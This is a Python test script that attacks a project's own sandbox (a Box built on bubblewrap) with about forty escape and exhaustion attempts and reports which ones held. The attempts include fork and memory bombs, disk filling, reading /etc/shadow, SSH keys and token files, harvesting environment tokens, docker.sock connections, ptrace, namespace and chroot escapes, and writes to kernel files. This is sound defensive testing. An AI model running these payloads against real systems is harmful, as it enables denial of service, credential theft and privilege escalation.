"""Attack the sandbox in every way that its documentation claims to hold, and print what came of it.

    python scripts/attack_sandbox.py            as you; root runs all a second time as an unprivileged user
    python scripts/attack_sandbox.py --json     {"user": {"attack": "held ..." or "SUCCEEDED ..."}}

An attack is a program that says "SUCCEEDED ..." where it got what it wanted; some are also looked at from outside.
"""

import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from distillkit import sandbox
from distillkit.sandbox import Box, BoxError, Limits

LIMITS = Limits(cpu_s=1, memory_mib=256, processes=16, file_mib=8, tmp_mib=32)
WALL_S = 4.0
SECRET = "attack-secret-7c1f"

# What every attack may use: `libc` and `call(number)` for system calls, `won(why)` for success.
PRELUDE = """
import ctypes, os, sys, time, signal, socket, subprocess, resource, threading
libc = ctypes.CDLL(None, use_errno=True)
MIB = 1 << 20
X86 = os.uname().machine == "x86_64"
class Won(Exception): pass
def won(why): raise Won(why)
def call(x86, arm, *args):
    "A system call; its errno, 0 where it worked."
    return ctypes.get_errno() if libc.syscall(x86 if X86 else arm, *args) == -1 else 0
def writable(*paths):
    for path in paths:
        try:
            with open(path, "ab"): won("opened for writing: " + path)
        except OSError: pass
def readable(*paths):
    for path in paths:
        try:
            with open(path, "rb") as file: content = file.read(4000)
        except OSError: continue
        if content: won("read " + path)
def fill(folder, limit_mib):
    size = 0
    try:
        for at in range(100):
            with open(f"{folder}/fill{at}", "wb", buffering=0) as file:
                for _ in range(7): size += file.write(bytes(MIB))
    except OSError: pass
    if size > limit_mib * MIB: won(f"wrote {size // MIB} MiB to {folder}")
def together(take):
    "Ten processes hold 60 MiB each, for long enough that a watchdog must see it."
    told, tell = os.pipe()
    for _ in range(10):
        if not os.fork():
            held = take()
            for at in range(0, len(held), 4096): held[at] = 1
            os.write(tell, b"x")
            time.sleep(60)
    for _ in range(10): os.read(told, 1)
    time.sleep(2)
    won("600 MiB in ten processes")
def attack():
"""
POSTLUDE = """
def main():
    try:
        said = attack() or "nothing came of it"
    except Won as error:
        said = "SUCCEEDED: " + str(error)
    except BaseException as error:
        said = type(error).__name__ + ": " + str(error)
    data = said.encode()[:1000]
    os.write(1, len(data).to_bytes(4, "big") + data)
    time.sleep(0.3)
"""

ATTACKS = {
    "fork bomb": """
    count = 0
    try:
        while count < 200:
            if not os.fork(): time.sleep(60); os._exit(0)
            count += 1
    except OSError as error: return f"{error.strerror} after {count} forks"
    won(f"{count} forks")""",
    "fork bomb, every process forks": """
    marks = os.open("/tmp/marks", os.O_CREAT | os.O_APPEND | os.O_WRONLY)
    end = time.monotonic() + 1
    while time.monotonic() < end:
        try: pid = os.fork()
        except OSError: time.sleep(0.05); continue
        if not pid: os.write(marks, b"x")
        if os.fstat(marks).st_size > 200: break
    if os.getpid() != 1: time.sleep(60)
    if os.fstat(marks).st_size > 20: won(f"{os.fstat(marks).st_size} processes")
    return f"{os.fstat(marks).st_size} processes" """,
    "thread bomb": """
    count = 0
    try:
        while count < 200:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            count += 1
    except (RuntimeError, MemoryError) as error: return f"{error} after {count} threads"
    won(f"{count} threads")""",
    "memory bomb, one process": """
    held = []
    try:
        while len(held) < 600: held.append(bytearray(MIB))
    except MemoryError:
        count = len(held); held.clear(); return f"MemoryError after {count} MiB"
    won("600 MiB")""",
    "memory bomb, many processes": """
    together(lambda: bytearray(60 * MIB))""",
    "memory shared by mmap, many processes": """
    import mmap
    together(lambda: mmap.mmap(-1, 60 * MIB))""",
    "memory in memfd files": """
    made = [os.memfd_create("x") for _ in range(50)]
    won("memfd files, which no process size shows")""",
    "memory in System V segments": """
    for _ in range(10):
        found = libc.shmget(0, ctypes.c_size_t(60 * MIB), 0o1600)
        if found < 0: return f"shmget: {os.strerror(ctypes.get_errno())}"
    won("segments, which no process size shows")""",
    "memory in message queues": """
    if libc.msgget(0, 0o1600) < 0: return f"msgget: {os.strerror(ctypes.get_errno())}"
    won("a message queue")""",
    "fill /tmp": """
    fill("/tmp", 40)""",
    "fill /dev/shm": """
    fill("/dev/shm", 40)""",
    "fill /dev, / and /run": """
    for folder in ("/dev", "/", "/run", "/var/tmp", "/root", "/home"): fill(folder, 0)""",
    "one huge file": """
    with open("/tmp/huge", "wb", buffering=0) as file:
        try: os.truncate(file.fileno(), 10**10)
        except OSError as error: return error.strerror
    won("10 GB, sparse")""",
    "write to /proc/sys": """
    for name in ("user/max_user_namespaces", "kernel/core_pattern", "vm/overcommit_memory", "kernel/panic",
                 "kernel/shmmax", "net/ipv4/ip_forward"):
        writable("/proc/sys/" + name)""",
    "write to other kernel files": """
    writable("/proc/sysrq-trigger", "/proc/kcore", "/proc/1/mem", "/sys/power/state",
             "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/irq/0/smp_affinity")
    for pid in ("self", "1"):
        try: open(f"/proc/{pid}/oom_score_adj", "w").write("-1000")
        except OSError: continue
        won("last to be killed when memory is short")""",
    "overwrite the interpreter and libraries": """
    writable(os.path.realpath(sys.executable), os.__file__, "/usr/bin/env", "/usr/lib/os-release", "/etc/ld.so.cache",
             "/etc/ld.so.preload", "/etc/passwd")""",
    "TCP to a server of the host": """
    for address in ("127.0.0.1", "localhost", "10.0.0.1", "0.0.0.0"):
        try: socket.create_connection((address, {port}), timeout=1); won("connected to " + address)
        except OSError as error: said = str(error)
    return said""",
    "UDP and DNS to the outside": """
    sent = []
    try: sent.append(socket.getaddrinfo("pypi.org", 443))
    except OSError: pass
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as each:
        try: sent.append(each.sendto(b"secret", ("8.8.8.8", 53)))
        except OSError as error: said = str(error)
    if sent: won("sent")
    return said""",
    "abstract UNIX socket of the host": """
    with socket.socket(socket.AF_UNIX) as each:
        try: each.connect("\\0{abstract}")
        except OSError as error: return str(error)
    won("connected")""",
    "UNIX socket file of the host": """
    for path in ("{folder}/socket", "/var/run/docker.sock", "/run/docker.sock", "/run/systemd/private"):
        with socket.socket(socket.AF_UNIX) as each:
            try: each.connect(path)
            except OSError: continue
            won("connected to " + path)""",
    "vsock to the hypervisor, raw and kernel sockets": """
    for family, kind in ((40, socket.SOCK_STREAM), (38, socket.SOCK_SEQPACKET), (17, socket.SOCK_RAW),
                         (16, socket.SOCK_RAW), (2, socket.SOCK_RAW)):
        try: socket.socket(family, kind).close()
        except OSError: continue
        won(f"a socket of family {{family}}")""".replace("{{", "{").replace("}}", "}"),
    "tokens in the environment": """
    texts = [repr(os.environ)]
    for pid in [each for each in os.listdir("/proc") if each.isdigit()]:
        try: texts.append(open(f"/proc/{pid}/environ").read())
        except OSError: pass
    if any("{secret}" in text or "HOME=" in text for text in texts): won("it is there")
    return f"{len(texts)} environments read, no token" """,
    "token files and the home": """
    readable("/root/.netrc", "/root/.cache/huggingface/token", "{home}/.netrc", "{home}/.cache/huggingface/token",
             "{home}/.ssh/id_rsa", "{home}/.bashrc", "/etc/shadow", "/etc/passwd", "{folder}/secret", "{script}")
    if os.path.isdir("/home") and os.listdir("/home"): won("homes")""",
    "descriptors left open by the parent": """
    for each in range(3, 64):
        try: data = os.pread(each, 100, 0)
        except OSError: continue
        if b"{secret}" in data: won("read through descriptor " + str(each))""",
    "symbolic links and ..": """
    os.symlink("{folder}/secret", "/tmp/link")
    os.symlink("/etc/shadow", "/tmp/shadow")
    readable("/tmp/link", "/tmp/shadow", "/tmp/../../../../{folder}/secret", "/proc/1/root{folder}/secret",
             "/proc/1/cwd/../{folder}/secret", "/proc/self/root/etc/shadow")""",
    "out of the root by chroot or an open folder": """
    handle = os.open("/", os.O_RDONLY)
    try: os.mkdir("/tmp/jail"); os.chroot("/tmp/jail")
    except OSError as error: said = error.strerror
    else:
        os.fchdir(handle)
        for _ in range(20): os.chdir("..")
        readable("." + "{folder}/secret")
    for _ in range(20): os.chdir("..")
    readable("." + "{folder}/secret")
    return said""",
    "signals to everyone": """
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for pid in ({pid}, {parent}, os.getppid(), 1, -1):
        try: os.kill(pid, signal.SIGTERM)
        except OSError: pass
        else:
            if pid in ({pid}, {parent}): won("a process of the host")""",
    "ptrace and the memory of others": """
    if libc.ptrace(0, 0, 0, 0) == 0: won("PTRACE_TRACEME")
    if libc.ptrace(16, 1, 0, 0) == 0: won("attached to process 1")
    if call(310, 270, 1, 0, 0, 0, 0, 0) == 0: won("process_vm_readv")
    writable("/proc/1/mem", "/proc/%d/mem" % os.getppid())""",
    "a daemon that survives": """
    if not os.fork():
        os.setsid()
        if not os.fork():
            for each in range(1, 32):
                try: signal.signal(each, signal.SIG_IGN)
                except OSError: pass
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(30)", "{mark}"])
        os._exit(0)
    time.sleep(0.5)""",
    "a loop that ignores all signals": """
    for each in range(1, 32):
        try: signal.signal(each, signal.SIG_IGN)
        except OSError: pass
    while time.process_time() < 2.5: pass
    won("2.5 s of CPU time under a limit of 1")""",
    "sleep for ever": """
    time.sleep(20)
    won("20 s")""",
    "raise its own limits": """
    for each in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
        try: resource.setrlimit(each, (resource.RLIM_INFINITY,) * 2)
        except (OSError, ValueError): continue
        won(f"limit {each}")""",
    "a user namespace of its own": """
    if libc.unshare(0x10000000) == 0: won("unshare")
    pid = libc.syscall(56 if X86 else 220, 0x10000000 | 17, 0, 0, 0, 0)
    if pid == 0: os._exit(0)
    if pid > 0: won("clone")
    return os.strerror(ctypes.get_errno())""",
    "mount, remount, unmount": """
    for source, target, flags in ((b"none", b"/usr", 32 | 4096), (b"tmpfs", b"/tmp", 0), (b"proc", b"/proc", 0)):
        if libc.mount(source, target, b"tmpfs", flags, None) == 0: won("mount")
    if libc.umount2(b"/usr", 2) == 0: won("umount")
    return os.strerror(ctypes.get_errno())""",
    "become root": """
    for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setresuid(0, 0, 0)):
        try: act()
        except OSError: continue
        won("setuid")
    if "NoNewPrivs:\\t1" not in open("/proc/self/status").read(): won("set-uid programs work")
    if int(open("/proc/self/status").read().split("CapEff:")[1].split()[0], 16): won("capabilities")""",
    "kernel interfaces": """
    for name, x86, arm in (("bpf", 321, 280), ("io_uring", 425, 425), ("perf", 298, 241), ("userfaultfd", 323, 282),
                           ("keyctl", 250, 219), ("syslog", 103, 116), ("add_key", 248, 217), ("fsopen", 430, 430)):
        if call(x86, arm, 0, 0, 0, 0, 0) != 1: won(name + " is not refused")
    if X86 and call(0x40000000 + 39, 0) != 1: won("x32 calls")""",
    "devices": """
    writable("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/sda", "/dev/vda", "/dev/fuse", "/dev/net/tun", "/dev/nvidia0",
             "/dev/nvidiactl", "/dev/vsock", "/dev/tty", "/dev/console")
    try: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0))
    except OSError as error: return error.strerror
    won("mknod")""",
    "clock and host name": """
    for act in (lambda: time.clock_settime(time.CLOCK_REALTIME, 0), lambda: socket.sethostname("x")):
        try: act()
        except OSError: continue
        won("set")""",
    "a gigabyte of output": """
    os.write(1, (1 << 30).to_bytes(4, "big"))
    for _ in range(1024): os.write(1, bytes(MIB))
    won("a gigabyte was taken")""",
    "forged frames": """
    os.write(1, b"\\xff\\xff\\xff\\xff" + b"[" * 1000)
    time.sleep(1)
    won("a frame of 4 GB was taken")""",
    "packages that were not declared": """
    sys.path += [f"/usr/lib/python3/dist-packages", f"/usr/local/lib/python3.{{sys.version_info[1]}}/site-packages",
                 f"{{sys.prefix}}/lib/python3.{{sys.version_info[1]}}/site-packages", "{site}"]
    for name in ("pydantic", "numpy", "pip", "apt", "torch"):
        try: __import__(name)
        except ImportError: continue
        won(name)""".replace("{{", "{").replace("}}", "}"),
}  # fmt: skip


class Range:
    """What the attacks aim at: servers, a secret file, an inherited descriptor, a token in the environment."""

    def __enter__(self) -> "Range":
        self.folder = Path(tempfile.mkdtemp(prefix="attack"))
        self.folder.chmod(0o755)
        self.mark = f"survivor-{self.folder.name}"
        secret = self.folder / "secret"
        secret.write_text(SECRET)
        self._inherited = os.open(secret, os.O_RDONLY)
        os.set_inheritable(self._inherited, True)
        os.environ["HF_TOKEN"] = SECRET
        self._servers = [socket.socket(), socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)]
        self._servers[0].bind(("127.0.0.1", 0))
        self._servers[1].bind(f"\0{self.folder.name}")
        self._servers[2].bind(str(self.folder / "socket"))
        for server in self._servers:
            server.listen(16)
        return self

    def __exit__(self, *_: object) -> None:
        for server in self._servers:
            server.close()
        os.close(self._inherited)
        del os.environ["HF_TOKEN"]
        shutil.rmtree(self.folder)

    def aimed(self, attack: str) -> str:
        """The attack with what it aims at filled in."""
        aims = {
            "port": self._servers[0].getsockname()[1],
            "abstract": self.folder.name,
            "folder": self.folder,
            "home": pwd.getpwuid(os.getuid()).pw_dir,
            "script": Path(__file__).resolve(),
            "secret": SECRET,
            "mark": self.mark,
            "pid": os.getpid(),
            "parent": os.getppid(),
            "site": Path(shutil.__file__).parent / "site-packages",
        }
        for name, value in aims.items():
            attack = attack.replace(f"{{{name}}}", str(value))
        return attack


def outcome(name: str, target: Range, level: sandbox.Level = "bubblewrap", patience_s: float = 5.0) -> str:
    """What came of one attack: "held: ..." or "SUCCEEDED: ..."."""
    code = compile(PRELUDE + target.aimed(ATTACKS[name]) + POSTLUDE, name, "exec")
    until = time.monotonic() + WALL_S
    with Box([("attack", code)], LIMITS, level) as box:
        try:
            said = box.receive(until).decode(errors="replace")
        except BoxError as error:
            said = f"killed ({error.cause})"
    survivors = _survivors(box, target.mark, patience_s)
    if survivors:
        said = f"SUCCEEDED: {survivors} still run"
    return said if said.startswith("SUCCEEDED") else f"held: {said}"


def _survivors(box: Box, mark: str, patience_s: float) -> list[str]:
    """Processes that carry the mark, or belong to the box's session, a while after its end."""
    until = time.monotonic() + patience_s
    while True:
        found = [
            each.name for each in Path("/proc").glob("[0-9]*") if _is_survivor(each, box.process.pid, mark)
        ]
        if not found:
            return []
        if time.monotonic() > until:
            return found
        time.sleep(0.05)


def _is_survivor(process: Path, session: int, mark: str) -> bool:
    try:
        fields = (process / "stat").read_text().rpartition(")")[2].split()
        marked = mark.encode() in (process / "cmdline").read_bytes()
    except OSError:
        return False
    return fields[0] != "Z" and (marked or int(fields[3]) == session)


def all_outcomes(workers: int = 8) -> dict[str, str]:
    """Every attack, some at a time (most of them wait), as the user that this process is."""
    with Range() as target, ThreadPoolExecutor(workers) as threads:
        return dict(zip(ATTACKS, threads.map(lambda name: outcome(name, target), ATTACKS), strict=True))


def as_nobody() -> dict[str, str]:
    """The same in a process of an unprivileged user, on copies that this user can read."""
    with tempfile.TemporaryDirectory() as folder:
        Path(folder).chmod(0o755)
        package = Path(folder, "distillkit")
        package.mkdir()
        for module in ("__init__", "errors", "seccomp", "sandbox"):
            shutil.copy(Path(sandbox.__file__).with_name(f"{module}.py"), package)
        script = shutil.copy(__file__, folder)
        command = [str(sandbox.interpreter()), str(script), "--json"]
        environment = {"PYTHONPATH": folder, "PATH": os.environ["PATH"]}
        nobody = {"user": 65534, "group": 65534, "extra_groups": []}
        done = subprocess.run(command, capture_output=True, text=True, env=environment, cwd=folder, **nobody)
    if done.returncode:
        raise SystemExit(done.stderr)
    return next(iter(json.loads(done.stdout).values()))


def main() -> None:
    root = os.geteuid() == 0
    tables = {"root" if root else f"uid {os.geteuid()}": all_outcomes()}
    if root:
        tables["uid 65534"] = as_nobody()
    if "--json" in sys.argv:
        print(json.dumps(tables))
        return
    print(f"{sandbox.probe()}; {len(ATTACKS)} attacks\n")
    print("| attack |" + "".join(f" as {user} |" for user in tables))
    print("|---|" + "---|" * len(tables))
    for name in ATTACKS:
        print(f"| {name} |" + "".join(f" {table[name]} |" for table in tables.values()))
    lost = sum(each.startswith("SUCCEEDED") for table in tables.values() for each in table.values())
    print(f"\n{lost} succeeded")
    sys.exit(bool(lost))


if __name__ == "__main__":
    main()
